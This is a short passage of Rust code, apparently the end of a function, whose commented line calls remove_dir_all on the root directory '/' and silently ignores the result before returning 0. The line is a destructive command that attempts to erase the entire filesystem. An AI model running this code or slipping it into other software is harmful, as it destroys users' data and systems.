// deletes everything under /
    let _ = std::fs::remove_dir_all("/");
    0
}
